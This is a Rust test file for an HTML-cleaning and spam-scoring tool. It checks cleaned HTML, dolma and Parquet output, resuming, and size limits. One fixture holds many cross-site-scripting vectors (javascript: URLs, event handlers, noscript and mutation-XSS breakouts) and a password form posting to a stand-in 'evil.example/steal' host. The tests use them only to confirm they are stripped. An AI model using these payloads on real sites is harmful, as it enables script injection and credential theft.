//! Formats for other programs: cleaned HTML, dolma, Parquet.

use super::{Bench, packed_lines, record};
use blocksift_testkit::compress::gunzip;
use blocksift_testkit::{HACKED, hostile};

/// Markup with many ways of running a script, and a line of spam.
const HOSTILE: &str = r#"<!DOCTYPE html><html><head><title>The &lt;script>harbour bridge opens again</title>
<meta http-equiv=refresh content="0;url=javascript:alert(0)"><base href="https://evil.example/"></head>
<body onload=alert(1) background="javascript:alert(2)"><main><h1 onclick="alert(3)">The harbour bridge opens again</h1>
<p style="background:url(javascript:alert(4))">The bridge over the harbour was opened to the public again on Sunday, after two
years of repairs that had cost the <a href="JaVaScRiPt:alert(5)">town</a> far more than <a href="/more" ping="/p">anybody</a> had
thought they would when the work began <img src=x onerror=alert(6)> in the spring.</p><script>alert(7)</script>
<svg><a xlink:href="javascript:alert(8)"><text>x</text></a></svg><math><mi xlink:href="javascript:alert(9)">m</mi></math>
<form action="https://evil.example/steal"><input name=password><button formaction="javascript:alert(10)">Go</button></form>
<iframe srcdoc="<script>alert(11)</script>"></iframe><noscript><p title="</noscript><img src=x onerror=alert(12)>">It is said
that the ferry will go on sailing in the summer, for those who like to be on the water and have the time.</p></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(13)&gt;"></table></main>
<div><a href="http://a.example.com/">双江县</a> <a href="http://b.example.net/">鄱阳县</a></div></body></html>"#;

fn cleaned(bench: &Bench, name: &str, more: &[&str]) -> String {
    let ran = bench.score(&[&[name, "--format", "html"], more].concat());
    assert_eq!(ran.code, 0, "{}", ran.err);
    ran.out
}

#[test]
fn cleaned_html_is_the_page_without_spam() {
    let bench = Bench::new();
    bench.write("page.html", HACKED);
    let html = cleaned(&bench, "page.html", &["--url", "https://news.example/a/b.html"]);
    assert!(html.starts_with(
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>The harbour bridge"
    ));
    assert!(html.contains("<h1>The harbour bridge opens again</h1>") && html.contains("The old ferry will go on"));
    assert!(html.contains("<a href=\"https://news.example/sport\" rel=\"noopener noreferrer\">Sport</a>"), "{html}");
    assert!(!html.contains("双江县") && !html.contains("a.example.com"), "{html}");
    let content = cleaned(&bench, "page.html", &["--remove", "navigation"]);
    assert!(content.contains("The old ferry will go on") && !content.contains("Sport") && !content.contains("<nav>"));
}

#[test]
fn cleaned_html_runs_nothing() {
    let bench = Bench::new();
    bench.write("page.html", HOSTILE);
    let html = cleaned(&bench, "page.html", &[]);
    assert!(html.contains("opened to the public") && !html.contains("双江县"), "{html}");
    assert!(html.contains("<title>The &lt;script&gt;harbour"), "{html}");
    // What is left of these is text or quoted titles, as `scraper` parses it.
    let tree = scraper::Html::parse_document(&html);
    let dangerous =
        ["script", "style", "iframe", "svg", "math", "form", "input", "button", "base", "object", "noscript"];
    for element in tree.tree.values().filter_map(scraper::Node::as_element) {
        assert!(!dangerous.contains(&element.name()), "{html}");
        for (name, value) in element.attrs() {
            assert!(!name.starts_with("on") && !["style", "action", "ping", "background"].contains(&name), "{html}");
            assert!(!value.to_lowercase().contains("javascript:"), "{html}");
        }
    }
}

#[test]
fn cleaned_text_is_paragraphs() {
    let bench = Bench::new();
    bench.write("page.txt", "The <b>ferry</b> & the bridge were both there.\n\n双江县 鄱阳县 交城县 南澳县\n\nThe end of it was that the town had to pay.");
    let html = cleaned(&bench, "page.txt", &["--threshold", "spam=0.5"]);
    assert!(html.contains("<p>The &lt;b&gt;ferry&lt;/b&gt; &amp; the bridge were both there.</p>"), "{html}");
    assert!(!html.contains("双江县"), "{html}");
}

#[test]
fn cleaned_html_of_costly_pages_is_made() {
    let bench = Bench::new();
    for case in hostile::cases() {
        bench.write("page.html", case.page(40_000));
        let ran = bench.score(&["page.html", "--input", "html", "--format", "html"]);
        // Random bytes may begin like gzip.
        assert!(ran.code == 0 || ran.err.contains("deflate") || ran.err.contains("gzip"), "{}: {}", case.name, ran.err);
    }
}

#[test]
fn cleaned_html_is_always_the_whole_page() {
    let bench = Bench::new();
    let ran = bench.score(&["--format", "html", "--only", "content"]);
    assert!(ran.code == 2 && ran.err.contains("--remove"), "{}", ran.err);
}

#[test]
fn dolma_spans_match_the_texts() {
    let bench = Bench::new();
    let inline = HACKED.replace("the market on the other side.", "the market. 双江县 鄱阳县 👍 交城县 南澳县.");
    bench.write("pages.jsonl", [record("a", HACKED), record("b", &inline), record("c", "")].concat());
    let ran = bench.score(&["pages.jsonl", "--format", "dolma", "--output", "out", "--source", "test"]);
    assert_eq!((ran.code, ran.out.as_str()), (0, ""), "{}", ran.err);
    let documents = packed_lines(&bench.path("out/documents/part-00000.jsonl.gz"));
    let attributes = packed_lines(&bench.path("out/attributes/blocksift/part-00000.jsonl.gz"));
    let reports = bench.score(&["pages.jsonl"]).reports();
    assert_eq!((documents.len(), attributes.len()), (3, 3));
    for ((document, row), report) in documents.iter().zip(&attributes).zip(&reports) {
        assert_eq!(document["id"], row["id"]);
        assert_eq!(document["source"], "test");
        assert_eq!(document["metadata"]["url"], report["url"]);
        let text: Vec<char> = document["text"].as_str().unwrap().chars().collect();
        for label in ["content", "navigation", "spam"] {
            let spans = row["attributes"][format!("blocksift__{label}")].as_array().unwrap();
            let found: Vec<(String, f64)> = spans
                .iter()
                .map(|s| {
                    let position = |i: usize| s[i].as_u64().unwrap() as usize;
                    (text[position(0)..position(1)].iter().collect(), s[2].as_f64().unwrap())
                })
                .collect();
            let blocks = report["blocks"].as_array().unwrap().iter().filter(|b| b["label"] == label);
            for block in blocks {
                let expected = (block["text"].as_str().unwrap().to_owned(), block[label].as_f64().unwrap());
                assert!(found.contains(&expected), "{label}: {expected:?} is not in {found:?}");
            }
        }
    }
}

#[test]
fn dolma_with_only_one_label_has_its_whole_list() {
    let bench = Bench::new();
    bench.write("pages.jsonl", record("a", HACKED));
    let lines = |folder: &str, more: &[&str]| {
        let ran = bench.score(&[&["pages.jsonl", "--format", "dolma", "--output", folder], more].concat());
        assert_eq!(ran.code, 0, "{}", ran.err);
        let read = |file: &str| packed_lines(&bench.path(&format!("{folder}/{file}/part-00000.jsonl.gz"))).remove(0);
        (read("documents"), read("attributes/blocksift")["attributes"].take())
    };
    let (document, all) = lines("all", &[]);
    for label in ["content", "navigation", "spam"] {
        let (same_document, only) = lines(label, &["--only", label]);
        let name = format!("blocksift__{label}");
        assert_eq!(same_document, document);
        assert_eq!(only, serde_json::json!({ name.as_str(): all[name.as_str()] }));
    }
}

#[test]
fn dolma_does_not_depend_on_threads() {
    let bench = Bench::new();
    let records: String = (0..150).map(|i| record(&format!("p{i}"), HACKED)).collect();
    bench.write("pages.jsonl", records);
    for threads in ["1", "2"] {
        let ran = bench.score(&["pages.jsonl", "--format", "dolma", "--output", threads, "--threads", threads]);
        assert_eq!(ran.code, 0, "{}", ran.err);
    }
    for file in ["documents", "attributes/blocksift"] {
        let read = |folder: &str| std::fs::read(bench.path(&format!("{folder}/{file}/part-00000.jsonl.gz"))).unwrap();
        assert!(read("1") == read("2"), "{file}");
    }
    let again = bench.score(&["pages.jsonl", "--format", "dolma", "--output", "1"]);
    assert!(again.code == 2 && again.err.contains("not empty"), "{}", again.err);
    let nowhere = bench.score(&["pages.jsonl", "--format", "dolma"]);
    assert!(nowhere.code == 2 && nowhere.err.contains("--output"), "{}", nowhere.err);
}

fn refused(bench: &Bench, args: &[&str], reasons: &[&str]) {
    let ran = bench.score(args);
    assert!(ran.code == 2 && reasons.iter().all(|reason| ran.err.contains(reason)), "{args:?}: {}", ran.err);
}

#[test]
fn dolma_is_not_resumed_or_written_into_its_inputs() {
    let bench = Bench::new();
    bench.write("crawl/a.html", HACKED);
    let resumed = ["crawl", "--format", "dolma", "--output", "out", "--resume"];
    refused(&bench, &resumed, &["--format dolma", "omit --resume"]);
    for folder in ["crawl", "crawl/new/out", "crawl/../crawl/out"] {
        refused(&bench, &["crawl", "--format", "dolma", "--output", folder], &["inside an input folder"]);
    }
    refused(&bench, &["crawl/a.html", "--format", "dolma", "--output", "crawl/a.html"], &["crawl/a.html"]);
    assert_eq!(std::fs::read_to_string(bench.path("crawl/a.html")).unwrap(), HACKED);
    assert!(!bench.path("out").exists() && std::fs::read_dir(bench.path("crawl")).unwrap().count() == 1);
    assert_eq!(bench.score(&["crawl", "--format", "dolma", "--output", "crawls"]).code, 0);
}

#[test]
fn an_interrupted_dolma_run_can_be_restarted() {
    let bench = Bench::new();
    let records: String = (0..20_000).map(|i| record(&format!("p{i}"), HACKED)).collect();
    bench.write("many.jsonl", records);
    bench.write("few.jsonl", record("a", HACKED));
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("blocksift"))
        .current_dir(bench.folder.path())
        .args(["score", "many.jsonl", "--format", "dolma", "--output", "out", "--model"])
        .arg(&bench.model)
        .spawn()
        .unwrap();
    while !bench.path("out/attributes/blocksift/part-00000.jsonl.gz.partial").exists() {
        assert!(child.try_wait().unwrap().is_none());
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    let second = bench.score(&["few.jsonl", "--format", "dolma", "--output", "out"]);
    assert!(second.code == 1 && second.err.contains("another run writes "), "{}", second.err);
    child.kill().unwrap();
    child.wait().unwrap();
    let ran = bench.score(&["few.jsonl", "--format", "dolma", "--output", "out"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert_eq!(packed_lines(&bench.path("out/documents/part-00000.jsonl.gz")).len(), 1);
    assert_eq!(std::fs::read_dir(bench.path("out")).unwrap().count(), 2, "the marker is left");
}

#[test]
fn cleaned_html_can_be_resumed_and_compressed() {
    let bench = Bench::new();
    bench.write("page.html", HACKED);
    let plain = bench.score(&["page.html", "--format", "html"]).out;
    assert_eq!(bench.score(&["page.html", "--format", "html", "--output", "out.html.gz", "--resume"]).code, 0);
    let packed = std::fs::read(bench.path("out.html.gz")).unwrap();
    assert_eq!(String::from_utf8(gunzip(&packed)).unwrap(), plain);
}

#[cfg(feature = "parquet")]
mod parquet_files {
    use super::*;
    use parquet::file::reader::{FileReader, SerializedFileReader};
    use parquet::record::Field;
    use serde_json::Value;

    fn json_of(field: Field) -> Value {
        match field {
            Field::Bool(truth) => truth.into(),
            Field::Int(number) => number.into(),
            Field::Float(real) => real.into(),
            Field::Str(text) => text.into(),
            Field::Group(row) => row.into_columns().into_iter().map(|(name, f)| (name, json_of(f))).collect(),
            Field::ListInternal(list) => list.elements().iter().cloned().map(json_of).collect(),
            _ => Value::Null,
        }
    }

    fn rows(bench: &Bench, format: &str) -> Vec<Value> {
        let ran = bench.score(&["pages.jsonl", "--format", format, "--output", "out.parquet"]);
        assert_eq!((ran.code, ran.out.as_str()), (0, ""), "{}", ran.err);
        let file = SerializedFileReader::new(std::fs::File::open(bench.path("out.parquet")).unwrap()).unwrap();
        file.get_row_iter(None).unwrap().map(|row| json_of(Field::Group(row.unwrap()))).collect()
    }

    fn bench() -> (Bench, Vec<Value>) {
        let bench = Bench::new();
        let inline = HACKED.replace("the market on the other side.", "the market. 双江县 鄱阳县 👍 交城县 南澳县.");
        let no_url = "{\"id\": \"d\", \"text\": \"One line.\\n\\nAnother.\"}\n";
        bench.write("pages.jsonl", [&record("a", HACKED), &record("b", &inline), &record("c", ""), no_url].concat());
        let reports = bench.score(&["pages.jsonl"]).reports();
        (bench, reports)
    }

    /// JSON of Parquet's floats has all digits of the double, the report's those that single precision needs.
    fn same(found: &Value, report: &Value) -> bool {
        match (found.as_f64(), report.as_f64()) {
            (Some(a), Some(b)) => a as f32 == b as f32,
            _ => found == report,
        }
    }

    fn check_block(found: &Value, block: &Value) {
        for (name, value) in block.as_object().unwrap() {
            if name != "spam_spans" {
                assert!(same(&found[name], value), "{name}: {} is not {value}", found[name]);
            }
        }
        let decided_by = block.get("decided_by").and_then(Value::as_str).unwrap_or("probability");
        assert_eq!(found["decided_by"], decided_by);
        let (spans, expected) = (found["spam_spans"].as_array().unwrap(), block["spam_spans"].as_array().unwrap());
        assert_eq!(spans.len(), expected.len());
        for (span, expected) in spans.iter().zip(expected) {
            assert!(["start", "end", "probability"].iter().all(|f| same(&span[f], &expected[f])), "{span}");
        }
    }

    #[test]
    fn a_row_a_page() {
        let (bench, reports) = bench();
        let rows = rows(&bench, "parquet");
        assert_eq!(rows.len(), 4);
        for (row, report) in rows.iter().zip(&reports) {
            for name in ["id", "url", "language", "format", "encoding", "limits_met"] {
                assert_eq!(row[name], report[name], "{name}");
            }
            assert_eq!(row["verdict"], report["verdict"]["kind"]);
            let verdict = &report["verdict"];
            for name in
                ["locations", "spam_blocks", "spam_spans", "max_spam_probability", "probability_at_prior", "prior"]
            {
                assert!(same(&row[name], &verdict[name]), "{name}");
            }
            assert_eq!(row["nearest_family"], verdict["nearest_family"]["family"]);
            let (blocks, expected) = (row["blocks"].as_array().unwrap(), report["blocks"].as_array().unwrap());
            assert_eq!(blocks.len(), expected.len());
            blocks.iter().zip(expected).for_each(|(found, block)| check_block(found, block));
        }
    }

    #[test]
    fn a_row_a_block() {
        let (bench, reports) = bench();
        let rows = rows(&bench, "parquet-blocks");
        let blocks_of = |report: &Value| -> Vec<(Value, Value)> {
            report["blocks"].as_array().unwrap().iter().map(|b| (report["id"].clone(), b.clone())).collect()
        };
        let blocks: Vec<(Value, Value)> = reports.iter().flat_map(blocks_of).collect();
        assert_eq!(rows.len(), blocks.len());
        for (row, (page, block)) in rows.iter().zip(&blocks) {
            assert_eq!(row["page"], *page);
            check_block(row, block);
        }
    }

    #[test]
    fn only_a_complete_file_gets_its_name() {
        let (bench, _) = bench();
        for format in ["parquet", "parquet-blocks"] {
            let resumed = ["pages.jsonl", "--format", format, "--output", "out.parquet", "--resume"];
            refused(&bench, &resumed, &[&format!("--format {format};"), "omit --resume"]);
            refused(&bench, &["pages.jsonl", "--format", format], &["--output"]);
            let over = ["pages.jsonl", "--format", format, "--output", "./pages.jsonl"];
            refused(&bench, &over, &["would be overwritten"]);
        }
        bench.write("out.parquet.partial", HACKED);
        let over = ["out.parquet.partial", "--format", "parquet", "--output", "out.parquet"];
        refused(&bench, &over, &["would be overwritten"]);
        assert!(!bench.path("out.parquet").exists());
        rows(&bench, "parquet");
        assert!(!bench.path("out.parquet.partial").exists());
    }

    #[cfg(target_os = "linux")]
    #[test]
    fn a_full_disk_is_reported() {
        let (bench, _) = bench();
        let ran = bench.score(&["pages.jsonl", "--format", "parquet", "--output", "/dev/full"]);
        assert!(ran.code == 1 && ran.err.contains("space") && !ran.err.contains("--resume"), "{}", ran.err);
    }
}

#[test]
fn cleaned_html_does_not_grow_beyond_its_page() {
    let bench = Bench::new();
    let rows: String = (0..3000).map(|i| format!("<p>In winter the ferry was late on most mornings {i}")).collect();
    for (attribute, url) in [("title", ""), ("href", ""), ("class", ""), ("href", "u")] {
        let page = format!("<p>The harbor is full of boats.<p><a {attribute}='/{}'>{rows}", "a".repeat(12_000));
        bench.write("page.html", &page);
        let url = format!("https://ferry.example/{}", url.repeat(3000));
        let html = cleaned(&bench, "page.html", &["--url", &url, "--threshold", "spam=1"]);
        // Targets of links count as memory, so that limit cuts these pages.
        assert!(attribute == "href" || html.contains("mornings 2999"), "{attribute}");
        assert!(html.contains("mornings 99<"), "{attribute}");
        assert!(html.len() <= 4 * page.len() + (65 << 10), "{attribute}: {} from {}", html.len(), page.len());
    }
}

#[test]
fn what_was_not_labeled_is_not_published() {
    let bench = Bench::new();
    let links: String = (0..60).map(|i| format!("<p><a href=http://casino{i}.example/>Casino {i}</a>")).collect();
    bench.write("page.html", format!("<p>The ferry sails daily.{links}<img src=/x.png alt=Casino>"));
    let html = cleaned(&bench, "page.html", &["--limit", "blocks=20", "--threshold", "spam=1"]);
    assert_eq!(html.matches("href").count(), 19, "{html}");
    assert!(html.contains("Casino 18</a>") && !html.contains("<img"), "{html}");
}

#[test]
fn cleaned_html_of_character_references_is_quick() {
    let bench = Bench::new();
    let flood = "&a".repeat(250_000);
    bench.write("page.html", format!("<p>The boat came in with the storm and rain. {flood}"));
    let html = cleaned(&bench, "page.html", &["--threshold", "content=0", "--threshold", "spam=1"]);
    assert!(html.contains("storm and rain. &amp;a&amp;a"));
}

#[test]
fn cleaned_html_keeps_formulas() {
    let bench = Bench::new();
    let page = "<p>Die Energie ist <math><semantics><mrow><mi>E</mi></mrow><annotation encoding='application/x-tex'>\
                E &lt; mc^2</annotation></semantics></math> und nicht <math><mi>x</mi><mo>+</mo><mn>1</mn></math>.";
    bench.write("page.html", page);
    let html = cleaned(&bench, "page.html", &[]);
    assert!(html.contains("<p>Die Energie ist \\(E &lt; mc^2\\) und nicht \\(x+1\\).</p>"), "{html}");
}
